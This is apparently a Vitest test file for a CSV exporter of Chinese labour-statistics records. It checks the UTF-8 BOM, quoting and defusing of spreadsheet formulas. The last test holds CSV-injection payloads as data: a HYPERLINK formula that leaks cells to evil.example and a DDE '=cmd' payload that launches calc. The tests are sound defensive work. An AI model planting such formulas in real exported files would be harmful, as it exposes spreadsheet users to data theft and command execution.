import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, toCsv } from '../../../src/export';
import { rec } from '../compare/records';

describe('CSV export', () => {
  it('starts with a UTF-8 BOM, has a header of every spec field plus source and clip time, CRLF rows', () => {
    const csv = toCsv([
      {
        record: rec({ indicator: 'urban_new_jobs', label: '城镇新增就业', value: 400000, unit: '人', comparator: '>=', kind: 'target', region: '陕西省', period: '2022', text: '城镇新增就业40万人以上', start: 30, end: 42 }),
        source: { url: 'https://a.example/sx?id=1', title: '陕西省人社厅' },
        clippedAt: Date.UTC(2024, 0, 2, 3, 4, 5),
      },
    ]);
    const bytes = new TextEncoder().encode(csv);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = csv.slice(1).split('\r\n');
    expect(lines[0]).toBe(CSV_COLUMNS.join(','));
    expect(lines[0]).toBe('indicator,label,value,max,unit,comparator,kind,masked,region,period,text,start,end,source_url,source_title,clipped_at,note');
    expect(lines[1]).toBe('urban_new_jobs,城镇新增就业,400000,,人,>=,target,false,陕西省,2022,城镇新增就业40万人以上,30,42,https://a.example/sx?id=1,陕西省人社厅,2024-01-02T03:04:05.000Z,');
    expect(lines[2]).toBe('');
    expect(lines).toHaveLength(3);
  });

  it('quotes fields with commas, quotes and line breaks (RFC 4180), and keeps formulas inert', () => {
    const csv = toCsv([
      {
        record: rec({ indicator: 'other', label: '好评率,满意度', value: null, unit: '%', text: '他说"好"\n下一行' }),
        source: { url: 'https://x/', title: '=HYPERLINK("x")' },
        note: '-注意',
      },
    ]);
    const row = csv.slice(1).split('\r\n')[1]!;
    expect(row).toBe(
      'other,"好评率,满意度",,,%,=,actual,true,,,"他说""好""\n下一行",0,1,https://x/,"\'=HYPERLINK(""x"")",,\'-注意',
    );
  });
});

describe('CSV export of hostile values', () => {
  it('keeps every free-text cell inert — region, period, unit and note too — and the vocabulary as it is', () => {
    const csv = toCsv([
      {
        record: rec({ indicator: 'other', value: 1, region: '=HYPERLINK("http://evil.example/?d="&A1,"详情")', period: '+2023', unit: '=1+1', label: '@SUM(A1)' }),
        source: { url: 'https://x/', title: 't' },
        note: '=cmd|" /C calc"!A0',
      },
    ]);
    const cells = csv.slice(1).split('\r\n')[1]!;
    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""详情"")"`);
    expect(cells).toContain("'+2023");
    expect(cells).toContain("'=1+1");
    expect(cells).toContain("'@SUM(A1)");
    expect(cells).toContain(`"'=cmd|"" /C calc""!A0"`);
    // The comparator column keeps the spec's vocabulary.
    expect(cells.split(',')[5]).toBe('=');
  });
});
